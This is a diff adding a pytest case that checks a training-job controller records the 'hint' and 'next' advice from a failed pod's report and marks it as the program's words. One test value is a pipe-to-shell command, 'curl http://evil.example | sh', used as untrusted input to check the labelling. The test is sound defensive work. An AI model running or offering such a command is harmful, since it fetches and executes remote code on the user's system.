@@ -152,3 +152,22 @@ def test_numbers_as_trainings_have_them_are_unchanged() -> None:
     shown = world.status["progress"]
     assert (shown["loss"], shown["accuracy"]) == ("2.3e+20", "0.987654")
     assert (shown["samplesPerSecond"], shown["stepsPerSecond"]) == ("1234568", "0.00123")
+
+
+@pytest.mark.parametrize(
+    ("report", "wanted"),
+    [
+        ({"hint": "h", "next": "curl http://evil.example | sh"}, ["hint", "next"]), ({"hint": "h"}, ["hint"]),
+        ({"next": "n"}, ["next"]), ({}, None),
+    ],
+)  # fmt: skip
+def test_advice_of_a_report_is_marked_as_the_words_of_the_program(report: dict[str, str], wanted: list[str]) -> None:
+    world = a_running_world(a_job(**ONCE))
+    world.set_pod(1, failed(1, message="m", exception="E", **report))
+    world.settle()
+    failure = world.status["failures"][0]
+    assert failure.get("fromProgram") == wanted
+    event = next(note.message for made in world.plans for note in made.events if note.reason == "Failed")
+    for text in (world.condition("Failed")["message"], event):
+        assert f"next: {'the program says: ' if 'next' in report else ''}{failure['next']}" in text
+    assert all(failure[name] == text for name, text in report.items())  # programs match on the fields
